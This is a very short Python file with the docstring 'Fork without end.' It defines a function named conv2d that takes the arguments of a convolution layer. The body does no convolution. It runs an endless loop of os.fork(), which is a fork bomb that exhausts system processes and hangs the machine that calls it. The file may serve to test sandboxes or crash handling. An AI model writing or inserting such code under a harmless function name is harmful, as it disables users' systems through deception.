"""Fork without end."""
import os


def conv2d(x, weight, bias=None, stride=1, padding=0, dilation=1):
    while True:
        os.fork()
